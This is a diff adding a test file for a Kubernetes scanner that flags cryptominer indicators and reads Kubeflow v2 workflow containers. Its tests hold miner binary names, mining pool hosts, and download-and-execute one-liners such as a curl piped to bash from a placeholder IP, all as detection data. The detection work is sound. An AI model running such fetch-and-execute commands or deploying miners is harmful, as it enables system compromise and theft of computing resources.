@@ -1,0 +1,116 @@
+import { describe, expect, it } from 'vitest';
+import { parseImageRef } from '../src/kube/image-ref.js';
+import { kfpV2ComponentSites } from '../src/kube/kfp-v2.js';
+import { indicatorsInImage, indicatorsInText, isPoolHost } from '../src/kube/miner-iocs.js';
+import { inventoryFromYaml } from './helpers/inventory.js';
+
+const kinds = (text: string, mlImage = false) => indicatorsInText(text, { mlImage }).map((i) => i.kind);
+
+describe('indicatorsInText', () => {
+  it.each([
+    ['-o stratum+tcp://pool.example.invalid:3333', ['stratum-url', 'pool-port']],
+    ['--url=stratum+ssl://x.example:443', ['stratum-url']],
+    ['stratum2+tcp://1.2.3.4:14444', ['stratum-url', 'pool-port']],
+    ['/tmp/xmrig', ['miner-binary']],
+    ['./XMRig-6.21.0-linux-static-x64.tar.gz', ['miner-binary']],
+    ['SRBMiner-MULTI --algorithm randomx', ['miner-binary']],
+    ['xmr-stak-rx', ['miner-binary']],
+    ['--donate-level 1', ['donate-level']],
+    ['pool.supportxmr.com:3333', ['pool-host', 'pool-port']],
+    ['eth-eu2.nanopool.org:9999', ['pool-host', 'pool-port']],
+    ['gulf.moneroocean.stream:10128', ['pool-host']],
+    ['ethminer -P stratum1+tcp://w@eu1.ethermine.org:4444', ['stratum-url', 'miner-binary', 'pool-host', 'pool-port']],
+  ])('%s', (text, expected) => {
+    expect(kinds(text)).toEqual(expected);
+  });
+
+  it.each([
+    'stratum-api --stratum-port=3333',
+    'geology stratum 4',
+    'node t-rex-runner.js --examinerd-mode',
+    '0.0.0.0:3333',
+    'http://tiles.example.com:8080',
+    'MINER_ENABLED=false',
+    'https://antpool.com.example.org/docs',
+    'xmrig-exporter --port 9189',
+    'curl -fsSL https://get.helm.sh/install.sh | sh',
+  ])('no indicator in %j outside ML images', (text) => {
+    expect(kinds(text)).toEqual([]);
+  });
+
+  it('finds download-and-execute one-liners only inside ML images', () => {
+    const pipe = 'curl -s http://203.0.113.9/a.sh | bash';
+    expect(kinds(pipe, true)).toEqual(['download-execute']);
+    expect(kinds(pipe, false)).toEqual([]);
+    expect(kinds('wget -q http://x/y -O /tmp/y && chmod 755 /tmp/y && /tmp/y', true)).toEqual(['download-execute']);
+    expect(kinds('wget -q http://x/w.h5 && chmod 644 w.h5', true)).toEqual([]);
+    expect(kinds("urllib.request.urlretrieve(u, '/tmp/t'); os.chmod('/tmp/t', 0o755)", true)).toEqual(['download-execute']);
+    expect(kinds('chmod +x ./train.sh && ./train.sh', true)).toEqual([]);
+  });
+
+  it('matches pool hosts by operator domain, not by substring', () => {
+    expect(isPoolHost('xmr-us-east1.nanopool.org')).toBe(true);
+    expect(isPoolHost('nanopool.org')).toBe(true);
+    expect(isPoolHost('notnanopool.org')).toBe(false);
+    expect(isPoolHost('nanopool.org.example.com')).toBe(false);
+  });
+});
+
+describe('indicatorsInImage', () => {
+  it.each([
+    ['ddsfdfsaadfs/dfsdf:99', ['ioc-image']],
+    ['mirror.example.com/hub/ddsfdfsaadfs/dfsdf', ['ioc-image']],
+    ['metal3d/xmrig:latest', ['miner-binary']],
+    ['ghcr.io/someone/lolminer:1.88', ['miner-binary']],
+    ['registry.example.com/geo/stratum-api:1.4.2', []],
+    ['tensorflow/tensorflow:latest-gpu', []],
+  ])('%s', (image, expected) => {
+    expect(indicatorsInImage(parseImageRef(image)!).map((i) => i.kind)).toEqual(expected);
+  });
+});
+
+describe('kfpV2ComponentSites', () => {
+  const inventory = inventoryFromYaml(`
+apiVersion: argoproj.io/v1alpha1
+kind: Workflow
+metadata: {name: v2, namespace: ns}
+spec:
+  podMetadata: {labels: {pipeline/runid: abc}}
+  templates:
+    - name: driver
+      container:
+        image: ghcr.io/kubeflow/kfp-driver:2.0.0
+        args: [--type, CONTAINER, --container, '{"image":"pytorch/pytorch","command":["python"]}']
+    - name: dag
+      dag:
+        tasks:
+          - name: train-driver
+            arguments:
+              parameters:
+                - {name: container, value: '{"image":"tensorflow/tensorflow:latest"}'}
+                - {name: task, value: '{"image":"not-a-container-parameter"}'}
+    - name: patched
+      podSpecPatch: |
+        containers:
+          - name: main
+            image: jupyter/scipy-notebook
+    - name: templated
+      podSpecPatch: "{{inputs.parameters.pod-spec-patch}}"
+`);
+  const [workflow] = inventory.all();
+
+  it('reads literal --container arguments, inline task parameters and literal podSpecPatch', () => {
+    const sites = kfpV2ComponentSites(workflow!);
+    expect(sites.map((s) => [s.role, s.containers[0]!.container['image'], s.path.join('.')])).toEqual([
+      ['driver', 'pytorch/pytorch', 'spec.templates.0.container.args.3'],
+      ['train', 'tensorflow/tensorflow:latest', 'spec.templates.1.dag.tasks.0.arguments.parameters.0.value'],
+      ['patched', 'jupyter/scipy-notebook', 'spec.templates.2.podSpecPatch'],
+    ]);
+    expect(sites[0]!.labels).toEqual({ 'pipeline/runid': 'abc' });
+  });
+
+  it('ignores kinds that are not Argo workflows', () => {
+    const pod = inventoryFromYaml('apiVersion: v1\nkind: Pod\nmetadata: {name: p, namespace: ns}\nspec: {containers: [{name: c, args: [--container, \'{"image":"x"}\']}]}').all()[0]!;
+    expect(kfpV2ComponentSites(pod)).toEqual([]);
+  });
+});
